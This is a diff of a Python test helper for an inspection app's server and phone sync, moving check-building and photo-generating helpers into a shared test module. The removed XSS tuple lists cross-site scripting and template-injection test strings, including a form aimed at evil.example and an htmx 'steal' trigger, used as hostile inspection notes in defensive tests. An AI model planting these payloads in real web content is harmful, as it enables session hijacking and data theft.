@@ -3,18 +3,16 @@ on paper, photos in the vault, hostile words in a note. The clock stands at noon
 
 from __future__ import annotations
 
-import io
 import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
-from datetime import date, datetime, timedelta
+from datetime import timedelta
 from hashlib import sha256
 
 import uvicorn
 from fastapi import FastAPI
-from PIL import Image, ImageDraw
 
 from server.database import Store, commit
 from server.delivery.vault import DiskVault
@@ -31,30 +29,16 @@ from server.settings import Settings
 from server.template.builtin import builtin_templates
 from server.wiring import build_parts, create_app
 from sync.exchange.header import Heartbeat
-from sync.records.fact import InspectionSubmitted, TasksWereOpened
-from sync.records.inspection import Answer, Inspection, NewHazard
+from sync.records.fact import TasksWereOpened
 from sync.records.task import Task, TasksOpened
-from sync.records.template import AnswerKind, Need, Template, TemplateItem
 from sync.records.types import PhotoRef, Subject
-from sync.rules.answers import items_for
 from sync.times import from_ms, to_ms
 from tests.carry import carry
+from tests.console_checks import TODAY, XSS, check, picture
 from tests.paper import Clock, PaperPhone, Server
 from tests.records import NOON, new_id
 
-TODAY = date(2026, 11, 20)
 PASSWORD = "correct horse battery"
-XSS = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(2)>",
-    '" onmouseover=alert(3) x="',
-    "{{7*7}}",
-    "javascript:alert(4)",
-    "</script><script>alert(5)</script>",
-    "<form action=//evil.example><button>",
-    "<div hx-get=/steal hx-trigger=load></div>",
-    "<div hx-on:click=alert(6)></div>",
-)
 
 
 @dataclass
@@ -182,7 +166,7 @@ def deliver(
     """File a check for each task on that phone and deliver them; the first `photos` have a photo, of which `late` stay away."""
     server, phone = Server(world.parts, world.clock), world.phones[label]
     by_code = {template.code: template for template in world.estate.templates}
-    pictures, at = [_picture(n, label) for n in range(photos)], from_ms(world.clock.ms)
+    pictures, at = [picture(n, label) for n in range(photos)], from_ms(world.clock.ms)
     for n, task in enumerate(tasks):
         refs = (PhotoRef(sha256=sha256(pictures[n]).hexdigest(), bytes=len(pictures[n])),) if n < photos else ()
         note = XSS[n % len(XSS)] if hostile else ""
@@ -200,82 +184,19 @@ def deliver(
         boot_id="boot-1", boot_ns=10**12,
     )  # fmt: skip
     carry(server, phone, len(phone.filed) - len(tasks) + 1 - 2 * stranger, heartbeat=beat, sent_at=from_ms(world.clock.ms))
-    for picture in pictures[: photos - late]:
-        _store_photo(world, phone.device, picture)
+    for taken in pictures[: photos - late]:
+        _store_photo(world, phone.device, taken)
 
 
-def check(
-    task: Task,
-    template: Template,
-    *,
-    author: str,
-    photos: tuple[PhotoRef, ...] = (),
-    note: str = "",
-    is_abnormal: bool = False,
-    at: datetime = NOON,
-) -> InspectionSubmitted:
-    """A check of this task with a sensible answer to every question that must be answered."""
-    items = [item for item in items_for(template, None) if item.need is not Need.ON_FAULT and item.type is not AnswerKind.PHOTO]
-    answers = [_answer(item, note) for item in items]
-    hazards: tuple[NewHazard, ...] = ()
-    abnormal: tuple[str, ...] = ()
-    first_ok = next((n for n, item in enumerate(items) if item.type is AnswerKind.OK), None)
-    if is_abnormal and first_ok is not None:
-        answers[first_ok] = Answer(i=items[first_ok].code, v="abnormal", note="锈蚀，需更换")
-        abnormal = (items[first_ok].code,)
-        hazards = (NewHazard(id=new_id(), item=items[first_ok].code, text="锈蚀，需更换"),)
-    body = Inspection(
-        template=template.code, version=template.version, task=task.id, started_at=at - timedelta(minutes=9),
-        answers=tuple(answers), abnormal=abnormal, hazards=hazards, reason=note,
-    )  # fmt: skip
-    return InspectionSubmitted(
-        id=new_id(), schema=1, author=author, site=task.site, subject=task.subject, made_at=at - timedelta(minutes=7),
-        boot_ns=10**12 - 420 * 10**9, boot_id="boot-1", photos=photos, body=body,
-    )  # fmt: skip
-
-
-def _answer(item: TemplateItem, note: str) -> Answer:
-    value: float | int | str | None
-    match item.type:
-        case AnswerKind.OK:
-            value = "normal"
-        case AnswerKind.NUM | AnswerKind.SCORE | AnswerKind.COUNT:
-            low, high = item.warn_low if item.warn_low is not None else item.minimum, item.warn_high
-            middle = ((low or 0) + (high if high is not None else item.maximum or 0)) / 2
-            value = int(middle) if item.type is AnswerKind.COUNT else round(middle, 1)
-        case AnswerKind.CHOICE:
-            value = next(choice.code for choice in item.choices if not choice.is_abnormal)
-        case AnswerKind.DATE:
-            value = TODAY.isoformat()
-        case AnswerKind.TIME:
-            value = "11:50"
-        case AnswerKind.SIGN:
-            value = "a" * 64
-        case _:
-            value = note or "ok"
-    return Answer(i=item.code, v=value, note=note[:100])
-
-
-def _picture(n: int, label: str) -> bytes:
-    image = Image.new("RGB", (800, 600), ((180 + 17 * n) % 256, 40 + 40 * n, 60 + len(label) * 3))
-    draw = ImageDraw.Draw(image)
-    draw.rounded_rectangle((300, 120, 500, 520), 60, fill=(200, 30, 30), outline=(30, 30, 30), width=8)
-    draw.rectangle((350, 70, 450, 130), fill=(40, 40, 40))
-    draw.ellipse((360, 220, 440, 300), fill=(240, 240, 240), outline=(20, 20, 20), width=4)
-    out = io.BytesIO()
-    image.save(out, "JPEG", quality=85)
-    return out.getvalue()
-
-
-def _store_photo(world: World, device: str, picture: bytes) -> None:
-    name, now = sha256(picture).hexdigest(), world.parts.now_ms()
+def _store_photo(world: World, device: str, data: bytes) -> None:
+    name, now = sha256(data).hexdigest(), world.parts.now_ms()
     file = world.parts.settings.parts / name
-    file.write_bytes(picture)
+    file.write_bytes(data)
     DiskVault(world.parts.settings.vault).add(name, file)
 
     def keep() -> None:
         Photo.insert(
-            sha256=name, bytes=len(picture), mime="image/jpeg", width=800, height=600, stored_at=now
+            sha256=name, bytes=len(data), mime="image/jpeg", width=800, height=600, stored_at=now
         ).on_conflict_ignore().execute()
         Promise.update(stored_at=now).where((Promise.device == device) & (Promise.sha256 == name)).execute()
 
